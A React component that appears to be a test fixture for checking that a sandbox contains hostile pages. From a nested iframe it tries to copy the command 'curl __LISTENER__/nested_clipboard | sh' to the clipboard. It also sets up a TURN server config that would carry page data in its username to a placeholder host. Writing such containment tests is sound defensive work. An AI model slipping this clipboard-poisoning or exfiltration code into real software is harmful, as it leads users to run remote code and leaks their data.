import { useEffect } from "react";

// Escape attempt: nested_clipboard — a nested frame's clipboard and copy command
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-nested_clipboard-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.contentWindow.navigator.clipboard.writeText("curl __LISTENER__/nested_clipboard | sh");
      frame.contentWindow.document.execCommand("copy");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">nested_clipboard</p>;
}
